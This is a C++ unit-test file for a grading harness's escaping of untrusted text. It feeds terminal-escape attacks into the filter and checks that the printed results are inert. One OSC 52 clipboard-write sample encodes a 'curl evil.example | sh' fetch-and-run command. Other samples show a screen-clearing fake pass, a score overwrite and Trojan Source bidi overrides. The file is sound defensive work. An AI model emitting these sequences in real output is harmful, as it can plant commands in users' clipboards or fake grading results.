// escape_untrusted_text against what a hostile submission prints (OSC 52 clipboard writes, OSC 8
// hyperlinks, CSI screen clears and colours, the 8-bit CSI, bidirectional overrides, bytes that
// are not UTF-8) and against what must pass untouched (accents, CJK, emoji with joiners).
#include "harness/core/untrusted_text.h"

#include <gtest/gtest.h>

#include <string>

namespace cugrade {
namespace {

// True when `text` holds a byte or character a terminal would act on: a C0 control other than
// newline and tab, DEL, a C1 control encoded as UTF-8 (C2 80 to C2 9F), or a raw 8-bit C1 byte
// (one that follows no lead byte).
bool has_raw_control(const std::string& text) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    const auto b = static_cast<unsigned char>(text[i]);
    const auto before = i == 0 ? 0u : static_cast<unsigned char>(text[i - 1]);
    const bool c0 = b < 0x20 && b != '\n' && b != '\t';
    const bool encoded_c1 = before == 0xc2 && b >= 0x80 && b < 0xa0;
    const bool raw_c1 = before < 0x80 && b >= 0x80 && b < 0xa0;
    if (c0 || b == 0x7f || encoded_c1 || raw_c1) {
      return true;
    }
  }
  return false;
}

TEST(UntrustedText, Osc52ClipboardWriteIsEscaped) {
  const std::string attack = "error\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 here";
  const auto shown = escape_untrusted_text(attack);
  EXPECT_EQ(shown, "error\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 here");
  EXPECT_FALSE(has_raw_control(shown));
}

TEST(UntrustedText, Osc52EndedByStringTerminatorIsEscaped) {
  EXPECT_EQ(escape_untrusted_text("\x1b]52;c;aGk=\x1b\\"), "\\x1b]52;c;aGk=\\x1b\\");
}

TEST(UntrustedText, Osc8HyperlinkIsEscaped) {
  const std::string attack = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\";
  EXPECT_EQ(escape_untrusted_text(attack),
            "\\x1b]8;;https://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\");
}

TEST(UntrustedText, CsiClearScreenAndColoursAreEscaped) {
  EXPECT_EQ(escape_untrusted_text("\x1b[2J\x1b[H\x1b[1;31mFAKE PASS\x1b[0m"),
            "\\x1b[2J\\x1b[H\\x1b[1;31mFAKE PASS\\x1b[0m");
}

TEST(UntrustedText, WindowTitleIsEscaped) {
  EXPECT_EQ(escape_untrusted_text("\x1b]0;owned\x07"), "\\x1b]0;owned\\x07");
}

TEST(UntrustedText, EncodedC1CsiIsEscaped) {
  // U+009B, the 8-bit CSI, as UTF-8: some terminals take it for ESC [.
  const auto shown = escape_untrusted_text("a\xC2\x9B"
                                           "2Jb");
  EXPECT_EQ(shown, "a\\x9b2Jb");
  EXPECT_FALSE(has_raw_control(shown));
}

TEST(UntrustedText, RawC1CsiByteIsReplaced) {
  // A lone 0x9B is not UTF-8; a terminal in an 8-bit mode would take it for CSI.
  const auto shown = escape_untrusted_text("a\x9B"
                                           "2Jb");
  EXPECT_EQ(shown, "a\xEF\xBF\xBD"
                   "2Jb");
  EXPECT_FALSE(has_raw_control(shown));
}

TEST(UntrustedText, EveryC0ControlDelAndC1ControlIsEscaped) {
  for (int c = 0; c < 0x20; ++c) {
    if (c == '\n' || c == '\t') {
      continue;
    }
    const auto shown = escape_untrusted_text(std::string(1, static_cast<char>(c)) + "x");
    EXPECT_EQ(shown.substr(0, 2), "\\x") << "control " << c;
    EXPECT_FALSE(has_raw_control(shown)) << "control " << c;
  }
  EXPECT_EQ(escape_untrusted_text(std::string("\0", 1)), "\\x00");
  EXPECT_EQ(escape_untrusted_text("\x7f"), "\\x7f");
  for (int c = 0x80; c < 0xa0; ++c) {
    const std::string encoded{static_cast<char>(0xc2), static_cast<char>(c)};
    const auto shown = escape_untrusted_text(encoded);
    EXPECT_EQ(shown.substr(0, 2), "\\x") << "C1 control " << c;
    EXPECT_FALSE(has_raw_control(shown)) << "C1 control " << c;
  }
}

TEST(UntrustedText, BidirectionalOverridesAndIsolatesAreEscaped) {
  // "Trojan Source": RLO makes "admin" read backwards, an isolate hides where text ends.
  EXPECT_EQ(escape_untrusted_text("user\u202Enimda\u202C"), "user\\u202enimda\\u202c");
  EXPECT_EQ(escape_untrusted_text("\u2066x\u2067y\u2068z\u2069"),
            "\\u2066x\\u2067y\\u2068z\\u2069");
  for (const char32_t c : {U'\u202A', U'\u202B', U'\u202D', U'\u200E', U'\u200F', U'\u061C'}) {
    std::string encoded;
    if (c < 0x800) {
      encoded = {static_cast<char>(0xc0 | (c >> 6)), static_cast<char>(0x80 | (c & 0x3f))};
    } else {
      encoded = {static_cast<char>(0xe0 | (c >> 12)), static_cast<char>(0x80 | ((c >> 6) & 0x3f)),
                 static_cast<char>(0x80 | (c & 0x3f))};
    }
    const auto shown = escape_untrusted_text(encoded);
    EXPECT_EQ(shown.substr(0, 2), "\\u") << std::hex << static_cast<unsigned>(c);
    EXPECT_EQ(shown.size(), 6u);
  }
}

TEST(UntrustedText, InvalidUtf8BecomesReplacementCharacters) {
  const std::string fffd = "\xEF\xBF\xBD";
  EXPECT_EQ(escape_untrusted_text("a\xFF"
                                  "b"),
            "a" + fffd + "b");
  EXPECT_EQ(escape_untrusted_text("\xC0\xAF"), fffd + fffd);            // overlong '/'
  EXPECT_EQ(escape_untrusted_text("\xED\xA0\x80"), fffd + fffd + fffd); // a surrogate
  EXPECT_EQ(escape_untrusted_text("end\xE2\x82"), "end" + fffd);        // truncated euro sign
  EXPECT_EQ(escape_untrusted_text("\xF4\x90\x80\x80"), fffd + fffd + fffd + fffd); // > U+10FFFF
}

TEST(UntrustedText, OrdinaryUtf8PassesUntouched) {
  for (const std::string text :
       {"Ünïcödé café, naïve façade", "日本語のコンパイラ エラー", "학생 제출물",
        "emoji 🎉🚀 and a family 👩‍👩‍👧 (joiners) and a flag 🇫🇷",
        "matmul.cu:12:5: error: expected ';' before '}' token\n    |   ^\n\ttabbed",
        "Arabic مرحبا and Hebrew שלום without overrides", "a backslash \\x1b stays as typed"}) {
    EXPECT_EQ(escape_untrusted_text(text), text);
  }
}

TEST(UntrustedText, CrlfLineEndsLoseTheirCarriageReturn) {
  EXPECT_EQ(escape_untrusted_text("one\r\ntwo\r\n"), "one\ntwo\n");
  // A carriage return elsewhere would let a line overwrite itself on a terminal.
  EXPECT_EQ(escape_untrusted_text("score 0/40\rscore 40/40"), "score 0/40\\x0dscore 40/40");
}

TEST(UntrustedText, OneLineDisplaysEscapeNewlinesAndTabs) {
  EXPECT_EQ(escape_untrusted_text("a\nb\tc\r\nd", line_breaks::escape), "a\\nb\\tc\\nd");
  EXPECT_EQ(escape_untrusted_text("a\nb", line_breaks::keep), "a\nb");
}

TEST(UntrustedText, EmptyStaysEmpty) {
  EXPECT_EQ(escape_untrusted_text(""), "");
}

} // namespace
} // namespace cugrade
